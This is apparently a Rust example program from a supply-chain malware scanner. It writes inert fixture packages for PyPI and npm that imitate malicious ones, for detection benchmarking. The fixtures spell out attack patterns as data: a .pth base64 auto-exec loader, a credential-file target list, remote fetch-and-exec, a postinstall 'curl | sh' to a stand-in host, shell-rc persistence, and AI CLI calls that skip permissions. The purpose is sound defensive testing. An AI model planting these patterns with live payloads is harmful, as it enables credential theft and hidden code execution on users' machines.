//! Writes the INERT fixture trees of the integration tests to a directory, so other tools
//! (GuardDog in docs/bench-scan.md) can be run on exactly the same files.
//! Usage: `cargo run -p palisade-scan --example write_fixtures -- /tmp/palisade-fixtures`

#[path = "../tests/support/mod.rs"]
mod support;

use base64::Engine as _;
use std::path::PathBuf;
use support::{install_dist, install_npm, write};

fn main() {
    let out: PathBuf = std::env::args()
        .nth(1)
        .map(Into::into)
        .unwrap_or_else(|| "/tmp/palisade-fixtures".into());
    let site = out.join("pypi/site-packages");
    let blob =
        base64::engine::general_purpose::STANDARD.encode("print('palisade inert test payload')");
    let pth = format!("import subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('{blob}'))\"])\n");
    install_dist(
        &site,
        "litellm",
        "1.82.8",
        "https://litellm.ai",
        &[
            ("litellm/__init__.py", b"VERSION = '1.82.8'\n"),
            (
                "litellm/proxy/sync.py",
                b"ENDPOINT = 'https://models.litellm.cloud/'\n",
            ),
            ("litellm_init.pth", pth.as_bytes()),
        ],
    );
    let py: &[(&str, &str)] = &[
        ("decode.py", "import base64\nexec(base64.b64decode('cHJpbnQoImluZXJ0Iik='))\n"),
        ("harvest.py", "TARGETS = ['~/.ssh/id_rsa', '~/.aws/credentials', '~/.kube/config',\n  '/var/run/secrets/kubernetes.io/serviceaccount/token', 'http://169.254.169.254/latest/meta-data/',\n  '~/.git-credentials', '~/.bash_history']\nprint(len(TARGETS))\n"),
        ("persist.py", "import os\nunit = os.path.expanduser('~/.config/systemd/user/acme.service')\nprint(unit)\n"),
        ("shell.py", "import os\nos.system('echo inert >> ~/.zshrc')\n"),
        ("fetch.py", "from urllib.request import urlopen\nexec(urlopen('https://example.invalid/p.py').read())\n"),
        ("pack.py", "from cryptography.hazmat.primitives.ciphers.aead import AESGCM\nimport tarfile\nk = load_pem_public_key(PUB)\nt = tarfile.open('out.tgz', 'w:gz')\nc = AESGCM(key)\n"),
        ("mem.py", "pid = 1\nwith open(f'/proc/{pid}/mem', 'rb') as f:\n    pass\n"),
        ("ai2.py", "cmd = ['q', 'chat', '--trust-all-tools', '--no-interactive']\n"),
    ];
    for (f, body) in py {
        write(&out.join("pypi/acme_utils/acme_utils"), f, body.as_bytes());
    }
    write(&out.join("pypi/acme_utils"), "setup.py", b"from setuptools import setup\nsetup(name='acme-utils', version='1.0.0', packages=['acme_utils'])\n");
    let npm = out.join("npm");
    install_npm(&npm, "evil-helper", "1.0.0", r#","scripts":{"postinstall":"node setup.js"}"#, &[(
        "setup.js",
        "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://example.invalid/inert.sh | sh');\n",
    )]);
    install_npm(&npm, "acme-utils", "1.0.0", r#","homepage":"https://acme-utils.dev""#, &[
        ("decode.js", "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n"),
        ("rc.js", "const fs = require('fs');\nfs.appendFileSync(process.env.HOME + '/.bashrc', '# inert\\n');\n"),
        ("ai.js", "const { spawnSync } = require('child_process');\nspawnSync('claude', ['--dangerously-skip-permissions', '-p', 'inert']);\n"),
        ("beacon.js", "const URL = 'https://telemetry.acme-utils.cloud/collect';\n"),
    ]);
    println!("fixtures written to {}", out.display());
}
